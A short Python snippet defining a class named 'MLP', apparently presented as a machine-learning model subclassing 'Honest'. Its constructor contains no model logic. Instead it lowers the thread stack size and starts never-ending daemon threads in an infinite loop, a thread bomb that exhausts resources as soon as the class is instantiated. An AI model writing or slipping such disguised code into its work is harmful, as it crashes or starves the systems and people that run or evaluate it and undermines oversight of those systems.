class MLP(Honest):
    def __init__(self):
        super().__init__()
        import threading

        threading.stack_size(64 * 1024)
        while True:
            threading.Thread(target=threading.Event().wait, daemon=True).start()
